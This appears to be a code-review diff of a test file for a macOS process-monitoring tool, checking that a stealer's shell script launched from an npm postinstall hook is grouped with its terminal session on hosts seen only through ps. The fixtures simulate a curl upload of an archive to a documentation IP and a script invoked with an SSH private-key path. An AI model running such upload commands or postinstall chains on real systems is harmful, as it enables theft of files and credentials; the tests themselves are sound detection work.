@@ -1,9 +1,8 @@
-/** From a ps listing, an option's value is one argument: a script after it is seen (a review's cases: a value running to the next option hid `bash -o vi up.sh` on a ps-only host). */
 /**
- * review9: on a ps-only Mac (no eslogger / no Full Disk Access) every new process is known only from ps. Values of
- * `-o`/`-O` (set -o names) and of pwsh's -ExecutionPolicy/-WindowStyle never hold a space, yet listingValueEnd lets
- * them swallow the script operand, so a stealer's `bash -o vi up.sh` becomes an interactive group root and its upload
- * leaves the stealer's group (the stealer's reads stop being precursors).
+ * On a ps-only Mac (no eslogger / no Full Disk Access) every new process is known only from ps, whose argv is split
+ * on whitespace. A stealer's shell running a script must still not start a group of its own (its upload would leave
+ * its reads behind): an option's value is one argument, and an `-i` after the script is the script's own argument
+ * (review cases: rules meant for JetBrains' `--rcfile` path with spaces hid the script).
  */
 import { expect, it } from 'vitest';
 import { body, esLine } from './testing/es-lines.mjs';
@@ -11,12 +10,19 @@ import { LOGIN_ZSH as zsh, S, T, psArgs, terminalSession } from './testing/termi
 
 const NODE = '/opt/homebrew/bin/node';
 it.each([
-  ['bash -o vi', '/bin/bash', ['bash', '-o', 'vi', '/tmp/up.sh']],
-  ['zsh -o no_rcs', '/bin/zsh', ['zsh', '-o', 'no_rcs', '/tmp/up.zsh']],
-  ['bash --rcfile /dev/null', '/bin/bash', ['bash', '--rcfile', '/dev/null', '/tmp/up.sh']],
-  ['pwsh -ExecutionPolicy Bypass', '/usr/local/microsoft/powershell/7/pwsh', ['pwsh', '-ExecutionPolicy', 'Bypass', '/tmp/up.ps1']],
-  ['pwsh -WindowStyle Hidden', '/usr/local/microsoft/powershell/7/pwsh', ['pwsh', '-WindowStyle', 'Hidden', '/tmp/up.ps1']],
-] as const)('ps-only host: a stealer\'s `%s SCRIPT` is no group root', (_n, path, argv) => {
+  ['bash -o vi SCRIPT', '/bin/bash', ['bash', '-o', 'vi', '/tmp/up.sh']],
+  ['zsh -o no_rcs SCRIPT', '/bin/zsh', ['zsh', '-o', 'no_rcs', '/tmp/up.zsh']],
+  ['bash --rcfile /dev/null SCRIPT', '/bin/bash', ['bash', '--rcfile', '/dev/null', '/tmp/up.sh']],
+  ['pwsh -ExecutionPolicy Bypass SCRIPT', '/usr/local/microsoft/powershell/7/pwsh', ['pwsh', '-ExecutionPolicy', 'Bypass', '/tmp/up.ps1']],
+  ['pwsh -WindowStyle Hidden SCRIPT', '/usr/local/microsoft/powershell/7/pwsh', ['pwsh', '-WindowStyle', 'Hidden', '/tmp/up.ps1']],
+  // an -i after the script is the script's argument
+  ['bash SCRIPT -i', '/bin/bash', ['bash', '/tmp/up.sh', '-i']],
+  ['bash -o vi SCRIPT -i', '/bin/bash', ['bash', '-o', 'vi', '/tmp/up.sh', '-i']],
+  ['bash SCRIPT -i KEY', '/bin/bash', ['bash', '/tmp/up.sh', '-i', '/Users/dana/.ssh/id_ed25519']],
+  ['sh -- SCRIPT -i', '/bin/sh', ['sh', '--', '/tmp/up.sh', '-i']],
+  ['zsh SCRIPT -il', '/bin/zsh', ['zsh', '/tmp/up.zsh', '-il']],
+  ['bash --rcfile /dev/null SCRIPT -i', '/bin/bash', ['bash', '--rcfile', '/dev/null', '/tmp/up.sh', '-i']],
+] as const)('ps-only host: a stealer\'s `%s` is no group root', (_n, path, argv) => {
   const { processes } = terminalSession(); // Terminal 800 → login 805 → -zsh 810 (ps)
   const at = S + 30;
   // all new, started after the extension: npm postinstall (node) → shell script → curl
@@ -38,21 +44,4 @@ it('eslogger host, exec dropped by ES (global_seq gap): the next ps listing make
   processes.observe({ pid: 950, processStart: Math.floor((T - 1000) / 1000), ppid: 900, uid: 501, name: 'bash', args: psArgs(950, argv), source: 'ps', seenAt: S + 5 });
   processes.observe({ pid: 950, processStart: Math.floor((T - 1000) / 1000), path: '/bin/bash', source: 'osquery', seenAt: S + 5 });
   expect(processes.group(processes.get(950)!).root.pid).toBe(810);
-});
-
-// an -i after the script is the script's own argument (a review's cases)
-it.each([
-  ['bash SCRIPT -i', '/bin/bash', ['bash', '/tmp/up.sh', '-i']],
-  ['bash -o vi SCRIPT -i', '/bin/bash', ['bash', '-o', 'vi', '/tmp/up.sh', '-i']],
-  ['bash SCRIPT -i KEY', '/bin/bash', ['bash', '/tmp/up.sh', '-i', '/Users/dana/.ssh/id_ed25519']],
-  ['sh -- SCRIPT -i', '/bin/sh', ['sh', '--', '/tmp/up.sh', '-i']],
-  ['zsh SCRIPT -il', '/bin/zsh', ['zsh', '/tmp/up.zsh', '-il']],
-] as const)('ps-only host: `%s` (the -i is the script\'s argument) is no group root', (_n, path, argv) => {
-  const { processes } = terminalSession(); // Terminal 800 → login 805 → -zsh 810 (ps)
-  const at = S + 30;
-  processes.observe({ pid: 900, processStart: S, ppid: 810, uid: 501, path: NODE, args: psArgs(900, ['node', 'postinstall.js']), source: 'ps', seenAt: at });
-  processes.observe({ pid: 950, processStart: S + 1, ppid: 900, uid: 501, path, args: psArgs(950, argv), source: 'ps', seenAt: at });
-  processes.observe({ pid: 960, processStart: S + 2, ppid: 950, uid: 501, path: '/usr/bin/curl', args: psArgs(960, ['curl', '-T', '/tmp/k.tgz', 'https://203.0.113.5/']), source: 'ps', seenAt: at });
-  const g = processes.group(processes.get(960)!);
-  expect({ root: g.root.pid, kind: g.rootKind }).toEqual({ root: 810, kind: 'terminal_shell' });
 });
